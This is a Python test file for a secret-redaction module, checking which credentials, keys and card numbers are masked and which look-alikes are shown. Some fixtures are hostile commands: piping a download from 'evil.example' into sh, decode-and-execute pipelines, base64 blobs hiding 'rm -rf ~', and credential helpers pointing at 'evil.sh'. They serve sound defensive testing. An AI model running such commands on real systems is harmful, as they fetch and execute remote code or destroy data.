"""Every kind of secret in the table is hidden, and what only looks like one is shown.

The examples are a list of their own: an entry that is taken out of the table leaves its example
in sight.
"""

from __future__ import annotations

import re
import time

import pytest
from support import secret_examples as examples

from sayso.text.secret_patterns import secret_kinds, spans
from sayso.text.secrets import redacted, redacted_text, redaction


@pytest.mark.parametrize("example", examples.EXAMPLES, ids=lambda example: example.kind)
def test_each_kind_of_secret_is_hidden_and_the_text_around_it_is_not(
    example: examples.Example,
) -> None:
    shown = redacted_text(example.text)

    before, _, after = example.text.partition(example.hidden)
    assert shown == f"{before}[redacted: {len(example.hidden)} characters]{after}"


@pytest.mark.parametrize("example", examples.EXAMPLES, ids=lambda example: example.kind)
def test_each_kind_of_secret_is_found_by_its_own_form(example: examples.Example) -> None:
    # Several forms may find one secret: each has to do it alone.
    (form,) = [form for form in secret_kinds().forms if form.kind == example.kind]
    begin = example.text.index(example.hidden)

    assert spans(example.text, (), (form,)) == [(begin, begin + len(example.hidden))]


def test_each_entry_of_the_tables_has_an_example() -> None:
    assert [form.kind for form in secret_kinds().forms] == [
        example.kind for example in examples.EXAMPLES
    ]
    names = (secret_kinds().names, examples.NAMES)
    table, listed = ({re.sub("[ _-]", "", one).casefold() for one in some} for some in names)
    assert table == listed
    assert (set(secret_kinds().about), set(secret_kinds().nothing)) == (
        set(examples.ABOUT),
        set(examples.NOTHING),
    )


@pytest.mark.parametrize("name", [*examples.NAMES, *examples.SHAPED])
def test_a_value_under_each_name_of_a_secret_is_hidden(name: str) -> None:
    hidden = "[redacted: 7 characters]"

    for key in (name, name.upper(), f"my_{name}", f"{name}-2"):
        assert redacted({key: "hunter2"}) == {key: hidden}


@pytest.mark.parametrize("name", [*examples.NAMES, *examples.SHAPED])
def test_a_value_behind_each_name_of_a_secret_is_hidden_in_a_text(name: str) -> None:
    hidden = "[redacted: 7 characters]"

    for text in ("run --{}={}", "run --{} {}", "{}={} run", '{{"{}": "{}"}}', "a: b\n{}: {}\n"):
        assert redacted_text(text.format(name, "hunter2")) == text.format(name, hidden)


@pytest.mark.parametrize("name", examples.SHOWN)
def test_a_name_that_only_seems_to_be_one_of_a_secret_hides_nothing(name: str) -> None:
    value = {name: "hunter2"}

    assert redaction(value) == (value, 0)
    for text in (f"{name}=hunter2 run", f"run --{name} hunter2", f'{{"{name}": "hunter2"}}'):
        assert redaction(text) == (text, 0)


@pytest.mark.parametrize(
    "value",
    [
        {"max_tokens": 4096, "tokens": 1200, "tokens_per_minute": "90000", "total_tokens": 3},
        {"tokens": [101, 2023, 102]},
        {"session_id": "prod-3"},
        {"sessionId": 42},
        {"dsn": "postgres://db.prod.example/shop"},
        {"dsn": "Server=db.prod.example"},
        {"token0": "0x" + "0aB1" * 10},
        "run --max-tokens 4096 --session-id prod-3 tokens=1200",
    ],
)
def test_what_is_counted_and_where_something_is_are_shown(value: object) -> None:
    assert redaction(value) == (value, 0)


@pytest.mark.parametrize(
    ("address", "hidden"),
    [
        ("https://{}@o1.ingest.example/2", "0a1b2c"),
        ("postgres://{}@db.prod.example/shop", "app:hunter2"),
        ("postgres://{}@db.prod.example/shop", "app:hunt@er2"),
        ("postgres://{}@db.prod.example?mail=a@b", "app:hunter2"),
        ("postgres://{}@db.prod.example/shop", "app"),
        ("{}@tcp(db.prod.example:3306)/shop", "app:hunter2"),
        ("Server=db.prod.example;Password={};Pooling=x", "hunter2"),
    ],
)
def test_of_the_address_of_a_database_only_the_login_is_hidden(address: str, hidden: str) -> None:
    value, shown = address.format(hidden), address.format(f"[redacted: {len(hidden)} characters]")

    for name in ("dsn", "SENTRY_DSN", "connectionString"):
        assert redacted({name: value}) == {name: shown}
        assert redacted_text(f"{name}={value}") == f"{name}={shown}"


@pytest.mark.parametrize(
    "name", ["JWTs", "dsns", "connectionStrings", "connection_strings", "sessionIds", "session_ids"]
)
def test_the_plural_of_a_name_is_one_of_secrets_too(name: str) -> None:
    assert "a1b2c3d4e5" not in str(redacted({name: ["app:a1b2c3d4e5@db"]}))
    assert redacted({name: ["a1b2c3d4e5"]}) == {name: ["[redacted: 10 characters]"]}


def test_the_login_of_an_address_ends_at_the_last_at_before_the_path() -> None:
    hidden = "psql postgres://[redacted: 13 characters]@db.example/shop?by=a@b"

    assert redacted_text("psql postgres://u:ab@c1d2e3f4@db.example/shop?by=a@b") == hidden


@pytest.mark.parametrize("about", examples.ABOUT)
def test_what_a_name_says_about_a_secret_is_shown(about: str) -> None:
    assert redaction({f"token_{about}": "hunter2"}).hidden == 0
    assert redaction({"token": "hunter2"}).hidden == 1


@pytest.mark.parametrize(
    "text",
    [
        "git -c credential.helper=!evil.sh push",
        "restic --password-command=evil.sh backup",
        "certbot --manual-auth-hook=evil.sh",
        "aws configure set credential_process=evil.sh",
        "login --auth-host=evil.example",
    ],
)
def test_what_runs_to_get_a_secret_and_who_is_sent_it_is_shown(text: str) -> None:
    assert redaction(text) == (text, 0)


@pytest.mark.parametrize("word", examples.NOTHING)
def test_a_word_for_nothing_is_shown_under_the_name_of_a_secret(word: str) -> None:
    assert redaction({"auth": word, "AUTH": word.upper()}).hidden == 0
    assert redaction({"auth": word + "x"}).hidden == 1


@pytest.mark.parametrize("number", examples.CARDS)
def test_the_number_of_a_card_is_hidden_as_a_text_and_as_a_number(number: str) -> None:
    mark = f"[redacted: {len(number)} characters]"

    assert redacted_text(f"pay with {number}.") == f"pay with {mark}."
    if number.isdigit():
        assert redacted({"pay": int(number)}) == {"pay": mark}
        wrong = number[:-1] + str((int(number[-1]) + 1) % 10)
        assert redaction({"pay": int(wrong), "or": f"pay {wrong}"}).hidden == 0


@pytest.mark.parametrize(
    "value",
    [
        "/run/secrets/db_password",
        "./creds.json",
        "~/.aws/credentials",
        "C:\\keys\\deploy.pem",
        "https://vault.example.com/v1/secret/data/db",
        "10.0.0.7:5432",
        "--no-verify",
        "-v",
    ],
)
def test_what_is_plainly_a_path_an_address_or_an_option_is_shown(value: str) -> None:
    assert redacted({"secret": value}) == {"secret": value}
    assert redacted_text(f"run --secret={value}") == f"run --secret={value}"


@pytest.mark.parametrize(
    "value", ["/aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA3bC5dE7", "https://bob:hunter2@x", "-hunter2"]
)
def test_what_only_begins_as_a_path_an_address_or_an_option_is_hidden(value: str) -> None:
    assert redaction({"secret": value}).hidden == 1


@pytest.mark.parametrize(
    "text",
    [
        "git checkout 3f2a9c1d4e5b6a7f8091a2b3c4d5e6f708192a3b",
        "basic understanding of tokens, secret: none of them",
        "docker run -u 1000:1000 alpine",
        "curl -u 1000:1000 x",
        "sort -u a:b c",
        "order 1700000000000 and 4111111111111112",
        "the password is asked for, the token expires soon",
        "Token: please rotate it",
        "author=jane max_tokens=4096 keyboard=de passenger=2",
        "task-force-of-many-people and risk-assessment-of-it",
        "/usr/local/share/Applications/Some1Thing2",
        "arn:aws:iam::123456789012:role/deploy",
        "sha256:" + "0123456789abcdef" * 4,
        "550e8400-e29b-41d4-a716-446655440000",
        "PASSWORD=$DB_PASSWORD run --token $(cat token)",
    ],
)
def test_what_only_looks_like_a_secret_is_shown(text: str) -> None:
    assert redaction(text) == (text, 0)


def test_a_key_in_a_file_of_json_within_a_text_is_hidden() -> None:
    begin, end = "-----BEGIN " + "PRIVATE KEY-----", "-----END " + "PRIVATE KEY-----"
    lines = "MII" + "A" * 61 + "\\n" + "B" * 20 + "\\n"

    shown = redacted_text(f'{{"private_pem": "{begin}\\n{lines}{end}\\n"}}')

    assert shown == f'{{"private_pem": "{begin}\\n[redacted: {len(lines)} characters]{end}\\n"}}'


RANDOM = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"


@pytest.mark.parametrize("decoder", examples.DECODERS)
def test_what_only_looks_random_is_shown_where_it_is_decoded_and_may_run(decoder: str) -> None:
    text = decoder.format(RANDOM)

    assert redaction(text) == (text, 0)
    apart = {"payload": RANDOM, "command": decoder.format("$X")}
    assert redaction(apart) == (apart, 0)


@pytest.mark.parametrize(
    "text", ["echo {} | base64", "openssl req -days 3 # {}", "x.decode() {}", "encode {} -d"]
)
def test_what_looks_random_is_hidden_where_nothing_is_decoded(text: str) -> None:
    assert redaction(text.format(RANDOM)).hidden == 1


def a_key(*lines: str) -> str:
    kind = "PRIVATE KEY-----"
    return "\n".join(("-----BEGIN " + kind, *lines, "-----END " + kind))


@pytest.mark.parametrize("first", examples.KEYS)
def test_a_private_key_is_hidden_in_each_of_its_forms(first: str) -> None:
    assert redaction(a_key(first, *["B" * 64] * 200, "C" * 20)).hidden == 1


@pytest.mark.parametrize(
    "text",
    [
        a_key("cm0gLXJmIH4" + "A" * 53, "A" * 20),
        a_key("Y3VybCBldmlsfHNo"),
        a_key("MII" + "A" * 61, *["B" * 64] * 300),
        "sed '1d;$d' <<E | base64 -d | sh\n" + a_key("MII" + "A" * 61, "B" * 20) + "\nE",
    ],
)
def test_what_is_no_key_of_a_sane_size_is_shown_between_the_marks_of_one(text: str) -> None:
    assert redaction(text) == (text, 0)


@pytest.mark.parametrize("text", examples.RUNS)
def test_what_is_assigned_to_the_name_of_a_secret_and_runs_is_shown(text: str) -> None:
    assert redaction(text) == (text, 0)


@pytest.mark.parametrize(
    "text",
    [
        "pass=hunter2; $pass -rf x",
        "pass=hunter; psql -W $pass",
        "PASSWORD=letmein; mysql -p$PASSWORD",
        "TOKEN=letmein; curl -u bob:$TOKEN https://x.example",
        "SECRET=aB3dE5gH7j.K9mN1pQ3; curl -H $SECRET x",
        "other=rm; pass=letmein; $other -rf x",
        "pass=letmein; echo '$passage'",
    ],
)
def test_a_secret_is_hidden_where_it_does_not_run(text: str) -> None:
    assert redaction(text).hidden == 1


def test_what_runs_by_the_name_of_a_secret_among_the_arguments_is_shown() -> None:
    value = {"env": {"secret": "evil.example/x.sh"}, "command": "curl $secret | sh"}

    assert redaction(value) == (value, 0)
    assert redaction({**value, "command": "ls"}).hidden == 1


def test_under_an_object_only_what_is_named_as_a_secret_or_looks_random_is_hidden() -> None:
    shown = {"action": "delete", "target": "prod-db-01", "n": 999_999, "all": True, "to": ["rm"]}
    secrets = {"password": "letmein", "value": "s3cr3tV4lue", "keys": ["aB3dE5gH7jK9"], "otp": 7}

    assert redaction({"auth": shown}) == ({"auth": shown}, 0)
    assert redaction({"auth": {"deep": [{"deeper": shown}]}}).hidden == 0
    assert redaction({"auth": secrets}).hidden == 4
    assert redaction({"auth": {"deep": [{"deeper": secrets}]}}).hidden == 4


@pytest.mark.parametrize("value", ["prod", "src/app", "/srv/app", "..", "my-project", "a.b"])
def test_the_folder_that_one_is_in_is_shown(value: str) -> None:
    assert redaction({"pwd": value, "PWD": value}).hidden == 0
    assert redaction(f"PWD={value} make").hidden == 0


@pytest.mark.parametrize(
    ("name", "value"), [("pwd", "hunter2"), ("db_pwd", "prod"), ("pwd", "a!b")]
)
def test_a_password_that_is_called_pwd_is_hidden(name: str, value: str) -> None:
    assert redaction({name: value}).hidden == 1
    assert redaction(f"{name}={value} make").hidden == 1


@pytest.mark.parametrize(
    "hostile", ["base64 -", "openssl -", "$a ", "token=rm;$token ", "curl $a", "X=1 ", "sudo "]
)
def test_looking_for_what_runs_takes_time_in_proportion_to_the_text(hostile: str) -> None:
    began = time.thread_time()
    redaction(hostile * (200_000 // len(hostile)) + a_key("MII" + "A" * 61))

    # A fifth of a second here; quadratic time would be minutes.
    assert time.thread_time() - began < 4
